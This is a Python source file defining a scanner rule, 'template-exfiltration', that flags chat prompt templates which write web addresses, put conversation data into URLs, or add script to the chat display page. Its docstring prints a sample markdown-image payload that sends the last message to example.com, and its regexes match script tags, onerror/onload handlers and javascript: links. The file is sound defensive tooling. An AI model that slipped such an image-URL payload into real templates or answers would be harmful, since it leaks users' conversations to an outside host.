"""The rule `template-exfiltration`."""

import re
from collections.abc import Iterator
from dataclasses import replace
from typing import ClassVar

from weighbridge.core.finding import Confidence, Finding, Place, Severity
from weighbridge.core.pattern import late
from weighbridge.core.text import visible
from weighbridge.formats.reading import Reading
from weighbridge.formats.template import TemplateReading
from weighbridge.formats.template.nodes import Text
from weighbridge.scan.rule import Rule

_URL = late(r"(?:https?|wss?|ftp)://([^\s/<>\"'?#:)]+)[^\s<>\"')]*", re.IGNORECASE)
_PICTURE = late(
    r"!\[[^\]]{0,100}\]\(\s*\Z|(?i:\b(always|must|every (answer|response|reply)|append|insert|add)\b[^.]{0,200}\Z)"
)
"""What stands before an address that every answer shall hold."""
_SCHEMAS = frozenset({"json-schema.org", "www.w3.org", "w3.org", "schema.org"})
"""Hosts whose addresses are names of formats."""


_SCRIPT = late(
    r"<script\b|<\w+[^<>]{0,300}\son(?:error|load)\s*=|\]\(\s*javascript:",
    re.IGNORECASE,
    needs=("<", "javascript:"),
)
"""What no conversation begins with, and a page that shows it would run."""
_SENTENCE = late(r"\A[^?=&#]*[.,;:!)\]}>\"']\Z")
"""An address at the end of a sentence."""


class TemplateExfiltration(Rule):
    """A template puts web addresses into the conversation.

    ## What it does
    Looks at everything constant that the template writes: an address that runs into data (`https://…?q={{ … }}`), and
    any other web address. Names of schemas are left out. Also a script for the page that shows the conversation.

    ## Why is this bad?
    An address with the conversation in it, shown as an image, sends the conversation to its host when the answer is
    displayed; that is an error. An address in the prompt makes the model recommend it.

    ## Example
    ```jinja
    ![.](https://example.com/?q={{ messages[-1].content | urlencode }})
    ```

    ## Use instead
    No addresses. What the model shall know of tools and sites comes from whoever uses it.

    ## Known problems
    A template may name its maker's site without ill intent. It stays undecided until somebody accepts it.
    """

    name = "template-exfiltration"
    summary = "a template writes web addresses, or data into one"
    severity = Severity.WARNING
    confidence = Confidence.MEDIUM
    formats: ClassVar[tuple[str, ...]] = ("template",)

    def look(self, reading: Reading, place: Place) -> Iterator[Finding]:
        """See `Rule.look`."""
        found: dict[tuple[int, str, bool], None] = {}
        for text in reading.texts if isinstance(reading, TemplateReading) else ():
            found.update(dict.fromkeys((text.line, *told) for told in _messages(text)))
        for line, message, error in found:
            severity = Severity.ERROR if error else None
            yield self.finding(replace(place, line=line), message, severity=severity, doubt=True)


def _messages(text: Text) -> Iterator[tuple[str, bool]]:
    """(what is written, whether it is harm): data in an address is, and so is a picture that the answer shall show."""
    if text.continues:
        # Behind a full stop stands the next sentence; that the address is written at all is told by itself.
        if not _SENTENCE.search(text.text):
            yield f"writes data into the address {visible(text.text, 100)}", True
        return
    if match := _SCRIPT.search(text.text):
        yield f"writes a script for the page that shows the conversation: {visible(match[0], 60)}", True
    for match in _URL.finditer(text.text):
        if match[1].lower() not in _SCHEMAS:
            before = text.text[max(0, match.start() - 300) : match.start()]
            yield f"writes the address {visible(match[0], 100)}", _PICTURE.search(before) is not None
